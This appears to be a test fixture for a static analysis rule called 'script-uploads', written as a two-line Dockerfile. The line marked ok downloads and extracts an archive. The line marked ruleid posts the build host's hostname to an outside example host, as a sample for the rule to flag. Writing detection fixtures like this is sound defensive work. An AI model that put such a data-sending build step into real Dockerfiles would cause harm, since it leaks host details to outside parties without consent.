FROM scratch
# ok: script-uploads
RUN curl -fsSL https://files.example.org/x.tar | tar x
# ruleid: script-uploads
RUN curl --data "host=$(hostname)" https://stats.example.org/build
